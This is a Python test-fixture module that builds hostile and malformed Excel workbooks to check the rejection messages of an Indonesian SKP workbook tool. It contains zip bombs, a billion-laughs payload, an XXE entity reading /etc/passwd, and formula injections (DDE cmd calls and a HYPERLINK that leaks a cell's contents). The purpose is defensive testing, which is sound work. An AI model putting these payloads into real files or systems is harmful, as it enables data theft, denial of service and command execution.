"""A corpus of hostile and messy workbooks, generated at test time into a temporary folder (nothing committed).

:func:`buat_korpus` writes every case of :data:`KASUS` and returns them; each case knows the Indonesian
fragment its refusal must contain (``alasan``), separately for the batch and for ``skpxl validasi``
when they differ, or that the file must be processed (``alasan=None``) with findings on given cells.
Bombs are built as raw deflate streams (a few hundred KB on disk for hundreds of MB inflated), zips
with lying headers are written by hand, the encrypted workbook with msoffcrypto-tool and the legacy
``.xls`` with skpxl's own CFB writer. Generating everything takes about two seconds.
"""

from __future__ import annotations

import hashlib
import io
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
CONTOH = ROOT / "workbook_templates" / "contoh"
LEGACY = ROOT / "workbook_templates" / "legacy"
BAIK = CONTOH / "05_siti_rahmawati.xlsx"
MiB = 1024 * 1024


@dataclass(frozen=True)
class Kasus:
    nama: str  # file name in the corpus folder
    buat: Callable[[], bytes]
    alasan: str | None  # fragment of the batch's reason; None = processed
    alasan_cli: str | bool | None = True  # fragment for `skpxl validasi`; True = same as the batch
    sel_temuan: tuple[str, ...] = ()  # processed files: keys of sel_rumus() whose cells carry a finding
    teks: dict[str, str] = field(default_factory=dict)  # processed files: recap column → exact text

    @property
    def harapan_cli(self) -> str | None:
        return self.alasan if self.alasan_cli is True else self.alasan_cli  # type: ignore[return-value]


# --------------------------------------------------------------------------- zip helpers


def _bagian(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {i.filename: z.read(i) for i in z.infolist()}


def _zip(parts: dict[str, bytes]) -> bytes:
    keluar = io.BytesIO()
    with zipfile.ZipFile(keluar, "w", zipfile.ZIP_DEFLATED) as z:
        for nama, isi in parts.items():
            z.writestr(nama, isi)
    return keluar.getvalue()


@dataclass
class _Mentah:
    """One entry of a hand-written zip: raw deflate data and the header fields, which may lie."""

    nama: str
    data: bytes
    crc: int
    ukuran: int  # declared inflated size


def _mentah(nama: str, isi: bytes) -> _Mentah:
    co = zlib.compressobj(6, zlib.DEFLATED, -15)
    return _Mentah(nama, co.compress(isi) + co.flush(), zlib.crc32(isi), len(isi))


def _deflate_aliran(potongan: Iterator[bytes]) -> tuple[bytes, int, int]:
    """Raw deflate of a stream of chunks: (compressed, crc, inflated size), in constant memory."""
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    keluar, crc, n = [], 0, 0
    for p in potongan:
        keluar.append(co.compress(p))
        crc = zlib.crc32(p, crc)
        n += len(p)
    keluar.append(co.flush())
    return b"".join(keluar), crc, n


def _zip_mentah(entri: list[_Mentah]) -> bytes:
    """A zip written by hand (deflate, no zip64), trusting nothing: headers carry what ``entri`` says."""
    badan = io.BytesIO()
    pusat = io.BytesIO()
    for e in entri:
        nama = e.nama.encode("utf-8")
        offset = badan.tell()
        kepala = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, e.crc, len(e.data), e.ukuran, len(nama), 0)
        badan.write(kepala + nama + e.data)
        medan = (0x02014B50, 20, 20, 0, 8, 0, 0x21, e.crc, len(e.data), e.ukuran, len(nama), 0, 0, 0, 0, 0, offset)
        pusat.write(struct.pack("<IHHHHHHIIIHHHHHII", *medan) + nama)
    cd = pusat.getvalue()
    akhir = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entri), len(entri), len(cd), badan.tell(), 0)
    return badan.getvalue() + cd + akhir


def _baik() -> bytes:
    return BAIK.read_bytes()


def _part_lembar(parts: dict[str, bytes], lembar: str) -> str:
    """The worksheet part of sheet ``lembar`` (workbook.xml + its relationships)."""
    wb = parts["xl/workbook.xml"].decode("utf-8")
    rels = parts["xl/_rels/workbook.xml.rels"].decode("utf-8")
    rid = re.search(rf'<sheet name="{re.escape(lembar)}"[^>]*r:id="([^"]+)"', wb)
    assert rid, lembar
    target = re.search(rf'Id="{rid.group(1)}"[^>]*Target="([^"]+)"|Target="([^"]+)"[^>]*Id="{rid.group(1)}"', rels)
    assert target
    return "xl/" + (target.group(1) or target.group(2)).lstrip("/").removeprefix("xl/")


def _urai_ref(ref: str) -> tuple[int, int]:
    m = re.fullmatch(r"([A-Z]+)([0-9]+)", ref)
    assert m, ref
    k = 0
    for ch in m.group(1):
        k = k * 26 + ord(ch) - 64
    return int(m.group(2)), k


def ganti_sel(xml: bytes, ref: str, isi: str) -> bytes:
    """Replace (or insert) cell ``ref`` of a worksheet part with ``<c r="ref" {isi}`` (attributes and body)."""
    baru = f'<c r="{ref}" {isi}'.encode()
    pola = re.compile(rb'<c r="' + ref.encode() + rb'"(?:[^>]*?/>|[^>]*>.*?</c>)', re.DOTALL)
    if pola.search(xml):
        return pola.sub(lambda _: baru, xml, count=1)
    baris, kolom = _urai_ref(ref)
    m = re.search(rb'<row r="' + str(baris).encode() + rb'"[^>]*?(/?)>', xml)
    if m is None:  # a new row, in order
        for r in re.finditer(rb'<row r="([0-9]+)"', xml):
            if int(r.group(1)) > baris:
                return xml[: r.start()] + b'<row r="%d">' % baris + baru + b"</row>" + xml[r.start() :]
        return xml.replace(b"</sheetData>", b'<row r="%d">' % baris + baru + b"</row></sheetData>")
    if m.group(1):  # an empty <row .../>
        return xml[: m.start()] + m.group(0)[:-2] + b">" + baru + b"</row>" + xml[m.end() :]
    akhir = xml.index(b"</row>", m.end())
    for c in re.finditer(rb'<c r="([A-Z]+)[0-9]+"', xml[m.end() : akhir]):
        if _urai_ref(c.group(1).decode() + str(baris))[1] > kolom:
            pos = m.end() + c.start()
            return xml[:pos] + baru + xml[pos:]
    return xml[:akhir] + baru + xml[akhir:]


def _dengan_sel(data: bytes, perubahan: dict[str, str]) -> bytes:
    """``{"SHEET!A1": 'attributes>body</c>'}`` applied to a workbook."""
    parts = _bagian(data)
    for alamat, isi in perubahan.items():
        lembar, ref = alamat.rsplit("!", 1)
        part = _part_lembar(parts, lembar.strip("'"))
        parts[part] = ganti_sel(parts[part], ref, isi)
    return _zip(parts)


def _teks_sel(teks: str) -> str:
    aman = teks.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    return f't="inlineStr"><is><t xml:space="preserve">{aman}</t></is></c>'


# --------------------------------------------------------------------------- the cases


def _terpotong() -> bytes:
    data = _baik()
    return data[: len(data) // 2]


def _zip_biasa() -> bytes:
    return _zip({"baca saya.txt": b"Lampiran SKP dikirim lewat grup.", "data/pegawai.csv": b"NIP;NAMA\n1;Budi\n"})


def _teks() -> bytes:
    return b"Laporan kinerja triwulan I\nNama: Budi\nCapaian: 100%\n"


def _pdf() -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"


def _xls() -> bytes:
    from skpxl.excel.vba.cfb import Storage, Stream, write_cfb

    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0)
    root = Storage({"Workbook": Stream(bof + b"\0" * 5000), "\x05SummaryInformation": Stream(b"\0" * 200)})
    return write_cfb(root)


def _terenkripsi() -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    keluar = io.BytesIO()
    OOXMLFile(io.BytesIO(_baik())).encrypt("rahasia", keluar)
    return keluar.getvalue()


def _dengan_lembar_bom(ukuran: int, *, bohong: bool) -> bytes:
    """DOKUMEN EVALUASI's part padded with ``ukuran`` bytes of whitespace (valid XML, ratio ~1000:1)."""
    parts = _bagian(_baik())
    target = _part_lembar(parts, "DOKUMEN EVALUASI")
    entri = []
    for nama, isi in parts.items():
        if nama != target:
            entri.append(_mentah(nama, isi))
            continue
        kepala, ekor = isi.split(b"<sheetData>", 1)
        spasi = b" " * MiB

        def aliran(kepala: bytes = kepala, ekor: bytes = ekor, spasi: bytes = spasi) -> Iterator[bytes]:
            yield kepala + b"<sheetData>"
            for _ in range(ukuran // MiB):
                yield spasi
            yield ekor

        data, crc, n = _deflate_aliran(aliran())
        entri.append(_Mentah(nama, data, zlib.crc32(isi) if bohong else crc, len(isi) if bohong else n))
    return _zip_mentah(entri)


def _entitas_tawa() -> bytes:
    """A worksheet with the billion-laughs payload (entities nested ten deep)."""
    parts = _bagian(_baik())
    part = _part_lembar(parts, "DOKUMEN EVALUASI")
    dtd = ['<!DOCTYPE worksheet [<!ENTITY lol "lol">']
    dtd += [f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)]
    dtd.append("]>")
    isi = parts[part].decode("utf-8")
    isi = isi.replace("?>", "?>" + "".join(dtd), 1)
    parts[part] = ganti_sel(isi.encode(), "A40", 't="inlineStr"><is><t>&lol9;</t></is></c>')
    return _zip(parts)


def _entitas_xxe() -> bytes:
    """Shared strings with an external entity (XXE)."""
    parts = _bagian(_baik())
    isi = parts["xl/sharedStrings.xml"].decode("utf-8")
    isi = isi.replace("?>", '?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 1)
    parts["xl/sharedStrings.xml"] = isi.replace("<t>", "<t>&xxe;", 1).encode()
    return _zip(parts)


def _entitas_utf16() -> bytes:
    """The same payload in UTF-16, which a byte search for ``<!DOCTYPE`` would miss."""
    parts = _bagian(_baik())
    part = _part_lembar(parts, "DOKUMEN EVALUASI")
    isi = parts[part].decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"')
    isi = isi.replace("?>", '?><!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">]>', 1)
    parts[part] = isi.encode("utf-16")
    return _zip(parts)


def _sejuta_baris() -> bytes:
    """Formatted empty rows down to row 1,048,576 (Excel's "used range to the bottom" after formatting rows)."""
    parts = _bagian(_baik())
    part = _part_lembar(parts, "DOKUMEN EVALUASI")
    isi = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:J1048576"/>', parts[part])
    kepala, ekor = isi.split(b"</sheetData>", 1)

    def aliran() -> Iterator[bytes]:
        yield kepala
        for awal in range(200, 1_048_577, 50_000):
            yield b"".join(b'<row r="%d" s="1"/>' % r for r in range(awal, min(awal + 50_000, 1_048_577)))
        yield b"</sheetData>" + ekor

    entri = [_mentah(n, d) for n, d in parts.items() if n != part]
    data, crc, n = _deflate_aliran(aliran())
    entri.append(_Mentah(part, data, crc, n))
    return _zip_mentah(entri)


def _sel_ujung() -> bytes:
    """One value in the last cell of the sheet: the fast reader would allocate 17 billion cells."""
    return _dengan_sel(_baik(), {"DOKUMEN EVALUASI!XFD1048576": _teks_sel("x")})


def _kolom_jauh() -> bytes:
    return _dengan_sel(_baik(), {"DOKUMEN EVALUASI!XFD10": _teks_sel("catatan di ujung kanan")})


def _gabung_raksasa() -> bytes:
    parts = _bagian(_baik())
    part = _part_lembar(parts, "SKP")
    isi = parts[part]
    m = re.search(rb'<mergeCells count="([0-9]+)">', isi)
    assert m
    tambahan = b'<mergeCell ref="A100:Z9999"/>' * 10  # rows within the limit, cells far beyond
    parts[part] = isi.replace(m.group(0), b'<mergeCells count="%d">' % (int(m.group(1)) + 10) + tambahan, 1)
    return _zip(parts)


def _templat_asing() -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Rekap Kinerja"
    ws.append(["NIP", "NAMA", "CAPAIAN"])
    ws.append(["199001012015031001", "Budi", 95])
    keluar = io.BytesIO()
    wb.save(keluar)
    return keluar.getvalue()


def _templat_lama() -> bytes:
    return (LEGACY / "SKP_PP46_2011_contoh.xlsx").read_bytes()


def _versi_depan() -> bytes:
    return _dengan_sel(_baik(), {"_SKPXL!B3": _teks_sel("9.0")})


def _disimpan_openpyxl() -> bytes:
    """The form as openpyxl writes it (every output of skpxl hitung): '<c r="B1" s="1" t="n" />' with a space."""
    import openpyxl

    keluar = io.BytesIO()
    openpyxl.load_workbook(BAIK).save(keluar)
    return keluar.getvalue()


def _tag_terbuka(part_atau_lembar: str, setelah: bytes, tag: bytes, kali: int = 60_000) -> bytes:
    """A tag that never closes, repeated after the root element (issue 18: quadratic in the old check)."""
    parts = _bagian(_baik())
    part = part_atau_lembar if part_atau_lembar in parts else _part_lembar(parts, part_atau_lembar)
    parts[part] = parts[part].replace(setelah, setelah + tag * kali, 1)
    return _zip(parts)


def _nama_jauh(nama: str, rujukan: str) -> bytes:
    """A defined name of the template moved to a far area (issue 18: the reader built the whole block)."""
    parts = _bagian(_baik())
    wb = parts["xl/workbook.xml"].decode("utf-8")
    wb, n = re.subn(rf'(<definedName name="{nama}">)[^<]*(</definedName>)', rf"\g<1>{rujukan}\g<2>", wb)
    assert n == 1, nama
    parts["xl/workbook.xml"] = wb.encode("utf-8")
    return _zip(parts)


def _banyak_bagian() -> bytes:
    parts = _bagian(_baik())
    for i in range(1_200):
        parts[f"customXml/item{i}.xml"] = b"<a/>"
    return _zip(parts)


def _ods() -> bytes:
    return _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet", "content.xml": b"<office/>"})


def _docx() -> bytes:
    return _zip(
        {
            "[Content_Types].xml": b"<Types/>",
            "_rels/.rels": b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
            "word/document.xml": b"<w:document/>",
        }
    )


def _html_xls() -> bytes:
    return b'<html xmlns:x="urn:schemas-microsoft-com:office:excel"><body><table><tr><td>NIP</td></tr></table></body>'


def _png() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"\0" * 64


# Cells of the example workbook changed by _rumus (found through the model, so layout changes follow).
def sel_rumus() -> dict[str, str]:
    from skpxl.buku.adapters.calamine_reader import CalamineReader
    from skpxl.buku.form_io import baca_form

    with CalamineReader(BAIK) as buku:
        form = baca_form(buku)
    iki = [i for r in form.rhk for i in r.iki]
    return {
        "nama": form.pegawai.sel["nama"],
        "jabatan": form.pegawai.sel["jabatan"],
        "rhk": form.rhk[0].sel["teks"],
        "target_rumus": iki[0].sel["target"],
        "target_galat": iki[1].sel["target"],
        "realisasi_ref": iki[2].evaluasi["AKHIR"].sel["realisasi"],
        "realisasi_tanpa_cache": iki[3].evaluasi["AKHIR"].sel["realisasi"],
    }


NAMA_RUMUS = '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")'
JABATAN_RUMUS = "@SUM(1+1)*cmd|' /C calc'!A0"
RHK_RUMUS = "-2+3+cmd|' /C notepad'!A0"


NIP_RUMUS = "199302082019032009"  # a person of its own: rekap counts one person once, whatever the file


def _sel_nip() -> str:
    from skpxl.buku.adapters.calamine_reader import CalamineReader
    from skpxl.buku.form_io import baca_form

    with CalamineReader(BAIK) as buku:
        return baca_form(buku).pegawai.sel["nip"]


def _rumus() -> bytes:
    s = sel_rumus()
    return _dengan_sel(
        _baik(),
        {
            _sel_nip(): _teks_sel(NIP_RUMUS),
            s["nama"]: _teks_sel(NAMA_RUMUS),
            s["jabatan"]: _teks_sel(JABATAN_RUMUS),
            s["rhk"]: _teks_sel(RHK_RUMUS),
            s["target_rumus"]: "><f>SUM(40,60)</f><v>100</v></c>",  # a formula: its cached value is read
            s["target_galat"]: 't="e"><f>1/0</f><v>#DIV/0!</v></c>',  # an error value
            s["realisasi_ref"]: 't="e"><v>#REF!</v></c>',
            s["realisasi_tanpa_cache"]: "><f>NOW()</f></c>",  # a formula never calculated: no value
        },
    )


ZIP_RUSAK = "rusak atau terpotong"
DTD = "deklarasi DTD/entitas XML"

KASUS: tuple[Kasus, ...] = (
    Kasus("terpotong.xlsx", _terpotong, ZIP_RUSAK),
    Kasus("zip_biasa.xlsx", _zip_biasa, "isinya arsip zip biasa"),
    Kasus("teks_diganti.xlsx", _teks, "isinya teks biasa, bukan buku kerja Excel"),
    Kasus("pdf_diganti.xlsx", _pdf, "isinya dokumen PDF, bukan buku kerja Excel"),
    Kasus("gambar_diganti.xlsx", _png, "isinya gambar, bukan buku kerja Excel"),
    Kasus("ekspor_web.xls", _html_xls, "isinya halaman web atau XML"),
    Kasus("lama.xls", _xls, "berformat Excel lama (.xls); buka di Excel lalu simpan"),
    Kasus("lama_diganti.xlsx", _xls, "berformat Excel lama (.xls) yang diberi nama .xlsx"),
    Kasus("ods_diganti.xlsx", _ods, "berformat OpenDocument"),
    Kasus("word_diganti.xlsx", _docx, "isinya dokumen Word"),
    Kasus("terenkripsi.xlsx", _terenkripsi, "dilindungi kata sandi"),
    Kasus("kosong.xlsx", lambda: b"", "kosong (0 bita), bukan buku kerja Excel"),
    Kasus("bom_zip.xlsx", lambda: _dengan_lembar_bom(256 * MiB, bohong=False), "kemungkinan zip bom"),
    Kasus("bom_zip_bohong.xlsx", lambda: _dengan_lembar_bom(256 * MiB, bohong=True), "lebih kecil daripada isinya"),
    Kasus("bom_rasio.xlsx", lambda: _dengan_lembar_bom(16 * MiB, bohong=False), "ciri zip bom"),
    Kasus("banyak_bagian.xlsx", _banyak_bagian, "melebihi batas 1.000 bagian"),
    Kasus("entitas_tawa.xlsx", _entitas_tawa, DTD),
    Kasus("entitas_xxe.xlsx", _entitas_xxe, DTD),
    Kasus("entitas_utf16.xlsx", _entitas_utf16, "enkode UTF-16/UTF-32"),
    Kasus("sejuta_baris.xlsx", _sejuta_baris, "lembar 'DOKUMEN EVALUASI' memakai baris"),
    Kasus("sel_ujung.xlsx", _sel_ujung, "memakai baris 1.048.576"),
    Kasus("kolom_jauh.xlsx", _kolom_jauh, "memakai kolom XFD"),
    Kasus("gabung_raksasa.xlsx", _gabung_raksasa, "sel gabungan dan tautan di lembar 'SKP'"),
    Kasus("templat_asing.xlsx", _templat_asing, "bukan formulir SKP dari templat skpxl"),
    Kasus("templat_lama.xlsx", _templat_lama, "memakai templat SKP lama (SKP-LAMA-PP46-2011)", alasan_cli=None),
    Kasus("versi_depan.xlsx", _versi_depan, "templat SKP versi 9.0, lebih baru"),
    Kasus("disimpan_openpyxl.xlsx", _disimpan_openpyxl, None),
    Kasus("tag_terbuka_rels.xlsx", lambda: _tag_terbuka("_rels/.rels", b"</Relationships>", b"<Relationship "), None),
    Kasus(
        "tag_terbuka_lembar.xlsx",
        lambda: _tag_terbuka("SKP", b"</worksheet>", b"<c "),
        "isi lembar 'SKP' (bagian 'xl/worksheets/sheet1.xml') tidak berakhir dengan benar",
    ),
    Kasus(
        "nama_tabel_raksasa.xlsx",
        lambda: _nama_jauh("TABEL_HASIL_KERJA", "SKP!$A$23:$XFD$1048576"),
        "nama 'TABEL_HASIL_KERJA' menunjuk ke SKP!A23:XFD1048576",
    ),
    Kasus(
        "nama_sel_ujung.xlsx",
        lambda: _nama_jauh("NAMA_PEGAWAI", "SKP!$XFD$1048576"),
        "nama 'NAMA_PEGAWAI' menunjuk ke SKP!XFD1048576",
    ),
    Kasus(
        "rumus.xlsx",
        _rumus,
        None,
        sel_temuan=("target_galat", "realisasi_ref", "realisasi_tanpa_cache"),
        teks={"NAMA": NAMA_RUMUS, "JABATAN": JABATAN_RUMUS},
    ),
)


def buat_korpus(folder: Path) -> dict[str, Kasus]:
    """Write every case into ``folder``; {file name: case}."""
    folder.mkdir(parents=True, exist_ok=True)
    for k in KASUS:
        (folder / k.nama).write_bytes(k.buat())
    return {k.nama: k for k in KASUS}


# ------------------------------------------------------------------ shared by the hostile-corpus tests (cli, batch)

BAD = {k.nama: k for k in KASUS if k.alasan is not None}
GOOD_GENERATED = {k.nama: k for k in KASUS if k.alasan is None}
CONTOH_FILES = sorted(p.name for p in CONTOH.glob("*.xlsx"))


def hashes(folder: Path) -> dict[str, str]:
    """sha256 of every file under ``folder``: proves that no source was changed."""
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()}
